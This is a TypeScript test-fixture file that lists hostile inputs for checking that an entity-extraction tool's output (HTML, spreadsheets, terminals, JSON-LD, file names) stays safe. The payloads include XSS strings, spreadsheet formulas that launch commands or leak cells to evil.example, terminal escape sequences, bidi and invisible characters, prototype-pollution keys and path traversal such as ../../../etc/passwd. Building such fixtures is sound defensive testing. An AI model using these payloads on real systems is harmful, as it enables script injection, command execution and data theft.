/**
 * Documents, ids, file names and fields that are hostile to those who look at what was found: pages,
 * spreadsheets, terminals, JSON-LD, files. Names that are listed stand in or beside each payload, so
 * that something is found there. Data only; what they must not do is tested where it is printed.
 */

import type { Json } from "../src/entity.ts";

export interface Attack {
  /** What it is; unique. */
  readonly name: string;
  /** In English; `CALM` where it is something else that is hostile. */
  readonly text?: string;
  /** Of a record, as JSON has it. */
  readonly id?: Json;
  /** The name of a file, of which a file system may not have every one. */
  readonly file?: string;
  /** Further fields of a record, which `--keep all` carries over. */
  readonly record?: { readonly [name: string]: Json };
}

/** What the others say: a person, a ministry, an aircraft, a count and two places. */
export const CALM =
  "Sergei Shoigu said the Russian Defence Ministry sent 12 Su-34 bombers and 26 Kalibr cruise missiles from Moscow to Aleppo.";

/** The text of an attack. */
export function textOf({ text }: Attack): string {
  return text ?? CALM;
}

/** The line of NDJSON that an attack is as a record. */
export function lineOf(attack: Attack): string {
  const { id, record } = attack;
  const fields = [
    ...Object.entries(record ?? {}),
    ["text", textOf(attack)],
    ...(id === undefined ? [] : [["id", id]]),
  ] as const;
  // By hand: an assignment to `__proto__` would be none.
  return `{${fields.map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value)}`).join(",")}}\n`;
}

/** An object as JSON gives it, in which `__proto__` is a field as any other. */
function parsed(json: string): { readonly [name: string]: Json } {
  return JSON.parse(json) as { readonly [name: string]: Json };
}

const ESC = "\u001b";
const BEL = "\u0007";
const SCRIPT = "<script>alert(1)</script>";

const HTML: readonly Attack[] = [
  { name: "a script beside a place", text: `${SCRIPT} Moscow ${SCRIPT} said so.` },
  { name: "a script in a name", text: `Sergei ${SCRIPT} Shoigu left Moscow.` },
  { name: "tags in a name", text: "Sergei <b onclick='alert(1)'>Shoigu</b> left <i>Moscow</i>." },
  { name: "an end of a script", text: "</script><script>alert(1)</script> Moscow </script>" },
  {
    name: "an end in capitals, with a blank",
    text: "Moscow </SCRIPT\n><img src=x onerror=alert(1)>",
  },
  { name: "an event handler", text: '<img src=x onerror="alert(1)"> Moscow <svg/onload=alert(1)>' },
  { name: "an attribute that ends", text: '" onmouseover="alert(1)" x="Moscow' },
  {
    name: "an attribute that ends, of the other quotes",
    text: "' autofocus onfocus='alert(1) Moscow",
  },
  { name: "a comment that opens", text: "<!-- Moscow <!--<script> Aleppo" },
  { name: "a comment that ends", text: "Moscow --> <script>alert(1)</script> --!> Aleppo" },
  { name: "a section that ends", text: "<![CDATA[ Moscow ]]> ]]> Aleppo <![CDATA[" },
  {
    name: "other ends of raw text",
    text: "</style></textarea></title></noscript></template>Moscow",
  },
  { name: "a plain text without end", text: "Moscow <plaintext> Aleppo <xmp>" },
  {
    name: "a base and a refresh",
    text: '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"> Moscow',
  },
  {
    name: "what loads",
    text: '<link rel=stylesheet href=//evil.example/x.css><iframe src="javascript:alert(1)"></iframe> Moscow',
  },
  {
    name: "a policy of its own",
    text: '<meta http-equiv=Content-Security-Policy content="default-src *"> Moscow',
  },
  {
    name: "entities",
    text: "&lt;script&gt;alert(1)&lt;/script&gt; Moscow &#60;b&#62; &amp;amp; Mos&shy;cow",
  },
  {
    name: "a link that runs",
    text: "[Moscow](javascript:alert(1)) <a href='JaVaScRiPt&colon;alert(1)'>Aleppo</a>",
  },
  { name: "data as a link", text: "data:text/html,<script>alert(1)</script> Moscow" },
  {
    name: "templates",
    text: "{{constructor.constructor('alert(1)')()}} \u0024{alert(1)} `Moscow` <%= 1 %>",
  },
  { name: "replacement patterns", text: "$& $1 $` $' $$ Moscow $<name>" },
  {
    name: "style that draws over",
    text: '<div style="position:fixed;inset:0;background:url(//evil.example)">Moscow</div>',
  },
  {
    name: "wide and odd brackets",
    text: "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e Moscow \u2039b\u203a",
  },
  { name: "a script as id", id: `"'><${SCRIPT}` },
  { name: "an end of a script as id", id: "</script><!--<script>" },
  { name: "a link that runs as id", id: "javascript:alert(document.domain)//" },
  { name: "a script as file", file: "<img src=x onerror=alert(1)>.txt" },
  { name: "quotes as file", file: `"onload="alert(1)" '.txt` },
  {
    name: "a script as field",
    record: parsed('{"title":"</script><script>alert(1)</script>","<b>":"&"}'),
  },
];

const ROWS: readonly Attack[] = [
  { name: "a formula that runs", text: "=cmd|' /C calc'!A0 Moscow" },
  { name: "a formula as id", id: "=cmd|' /C calc'!A0" },
  { name: "a formula that loads as id", id: '=HYPERLINK("http://evil.example?"&A1,"Moscow")' },
  { name: "an old function as id", id: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: "plus as id", id: "+1+cmd|' /C calc'!A0" },
  { name: "minus as id", id: "-1+cmd|' /C calc'!A0" },
  { name: "a wide sign as id", id: "\uff1d1+1" },
  { name: "a formula behind a tab as id", id: "\t=1+1" },
  { name: "a formula behind a return as id", id: "\r=1+1" },
  { name: "a formula behind a quote as id", id: '"=1+1' },
  { name: "a formula behind what is not seen as id", id: "\u200b=1+1" },
  { name: "a formula behind a NUL as id", id: "\u0000=1+1" },
  { name: "a formula behind a mark of order as id", id: "\ufeff=1+1" },
  { name: "a number that is none as id", id: "-2+3" },
  { name: "new rows as id", id: 'a\r\n"b",c\r=1\n,,' },
  { name: "cells as id", id: 'a","=1+1","b\tc;=1+1;d' },
  { name: "a formula as file", file: "=1+1.txt" },
  { name: "a formula in the lines of a text", text: "Moscow,\r\n=1+1\r\nAleppo\t=1+1\t@A1" },
  {
    name: "line ends in a name",
    text: "Sergei\r\nShoigu left Moscow. Vladimir\nPutin left Aleppo.",
  },
  { name: "a tab in a name", text: "Sergei\tShoigu left Moscow." },
  { name: "comments of columns", text: "# id = 1\n# Moscow\nO\tB-place\nMoscow\tO\n\nAleppo" },
  { name: "notes of standoff", text: "T1\tperson 0 3\tfoo\n#1\tAnnotatorNotes T1\tbar\nMoscow" },
];

const TERMINAL: readonly Attack[] = [
  { name: "colours", text: `${ESC}[31m Moscow ${ESC}[0m said so.` },
  { name: "a screen that is cleared", text: `${ESC}[2J${ESC}[H Moscow ${ESC}c` },
  { name: "a title", text: `${ESC}]0;owned${BEL} Moscow` },
  {
    name: "a link of a terminal",
    text: `${ESC}]8;;http://evil.example${ESC}\\Moscow${ESC}]8;;${ESC}\\`,
  },
  { name: "a clipboard", text: `${ESC}]52;c;Y3VybA==${BEL} Moscow` },
  { name: "escapes in a name", text: `Sergei ${ESC}[8mShoigu${ESC}[0m left Moscow.` },
  { name: "controls of eight bits", text: "\u009b31m Moscow \u009d0;owned\u009c \u0090q\u009c" },
  { name: "steps back", text: "Moscow\b\b\b\b\b\bAleppo \u007f Moscow\rAleppo" },
  { name: "escapes as id", id: `${ESC}]8;;http://evil.example${ESC}\\Moscow${ESC}[2J` },
  { name: "escapes as file", file: `${ESC}[31mred${ESC}[0m.txt` },
  { name: "a line as file", file: "a\nextract: all is well.txt" },
  { name: "escapes as field", record: { title: `${ESC}[2J` } },
  { name: "a NUL", text: "Mos\u0000cow \u0000Aleppo\u0000" },
  { name: "a NUL as id", id: "a\u0000b" },
];

const CHARACTERS: readonly Attack[] = [
  { name: "text turned around", text: "\u202eMoscow\u202c left \u2066Aleppo\u2069 \u2067Moscow" },
  { name: "a name turned around", text: "Sergei \u202eShoigu left Moscow." },
  { name: "an id turned around", id: "\u202etxt.exe\u2066" },
  { name: "a file turned around", file: "\u202egpj.txt" },
  {
    name: "what is not seen in a name",
    text: "Ser\u200bgei Sho\u200digu left Mos\u00adcow and A\u2060leppo.",
  },
  { name: "tags of characters", text: "Moscow\u{e0041}\u{e0042}\u{e007f} said so." },
  { name: "half a pair beside a place", text: "\ud800Moscow\udc00 and \ud83dAleppo" },
  { name: "half a pair at the ends", text: "\udc00 Moscow \ud800" },
  { name: "half a pair as id", id: "\ud800a\udfff" },
  { name: "pairs before a place", text: "😀😀 Moscow 🇷🇺 𐍈 Aleppo" },
  {
    name: "separators of lines",
    text: "Moscow\u2028said\u2029Aleppo\u0085so\u000bsaid\u000cMoscow",
  },
  { name: "separators as id", id: "a\u2028b\u2029c" },
  { name: "what is no character", text: "\ufffe Moscow \uffff \ufffd \u{10ffff}" },
  { name: "a mark of order inside", text: "\ufeffMoscow \ufeffAleppo" },
  { name: "marks without end", text: `Moscow${"\u0301".repeat(2000)} said so.` },
  { name: "a huge word", text: `Moscow ${"x".repeat(100_000)} Aleppo` },
  { name: "a huge id", id: "a/".repeat(5000) },
];

const KEYS: readonly Attack[] = [
  { name: "the prototype as id", id: "__proto__" },
  { name: "the constructor as id", id: "constructor" },
  { name: "a method as id", id: "hasOwnProperty" },
  {
    name: "the prototype as field",
    record: parsed('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
  },
  {
    name: "fields of ours as fields",
    record: parsed('{"entities":[],"format":"x","language":"zz","toString":1}'),
  },
  {
    name: "keywords of JSON-LD as fields",
    record: parsed('{"@context":"http://evil.example/c","@id":"x","@graph":[]}'),
  },
  { name: "a keyword of JSON-LD as id", id: "@context" },
  { name: "another keyword of JSON-LD as id", id: "@id" },
  { name: "a blank node as id", id: "_:b0" },
  { name: "an object as id", id: parsed('{"@id":"http://evil.example","__proto__":{"a":1}}') },
  { name: "a list as id", id: ["a", ["b", null], true] },
  { name: "a number as id", id: -0.5 },
  { name: "an empty id", id: "" },
  { name: "blanks as id", id: "  " },
  { name: "an id that is deep", id: JSON.parse(`${"[".repeat(500)}${"]".repeat(500)}`) as Json },
  {
    name: "brackets that are deep",
    text: `${"<b>".repeat(2000)}Moscow${"</b>".repeat(2000)} ${"[".repeat(2000)}`,
  },
];

const PATHS: readonly Attack[] = [
  { name: "the way up as id", id: "../../../etc/passwd" },
  { name: "the way up of Windows as id", id: "..\\..\\windows\\win.ini" },
  { name: "a root as id", id: "/etc/passwd" },
  { name: "a drive as id", id: "C:\\a.txt" },
  { name: "the folder as id", id: "." },
  { name: "the folder above as id", id: ".." },
  { name: "a device as id", id: "CON" },
  { name: "a hidden file as id", id: ".bashrc" },
  { name: "a file of ours as id", id: "annotation.conf" },
  { name: "the way up in percents as id", id: "%2e%2e%2f%2e%2e%2fetc%2fpasswd" },
  { name: "percents that are none as id", id: "%zz%%2" },
  { name: "a URL as id", id: "https://user:pw@evil.example:81/a?b=c#d" },
  { name: "a URL without a scheme as id", id: "//evil.example/a" },
  { name: "an IRI that is none as id", id: 'http://a b/<c>"{d}|^`\\' },
  { name: "a fragment as id", id: "#fragment?query" },
  { name: "a switch as id", id: "--output=/etc/passwd" },
  { name: "the way up as file", file: "../../escaped.txt" },
  { name: "a switch as file", file: "--help.txt" },
  { name: "percents as file", file: "%2e%2e%2fa.txt" },
  { name: "a URL as file", file: "https:/evil.example/a.txt" },
  { name: "a long name as file", file: `${"a".repeat(250)}.txt` },
];

/** All of them. */
export const ATTACKS: readonly Attack[] = [
  ...HTML,
  ...ROWS,
  ...TERMINAL,
  ...CHARACTERS,
  ...KEYS,
  ...PATHS,
];
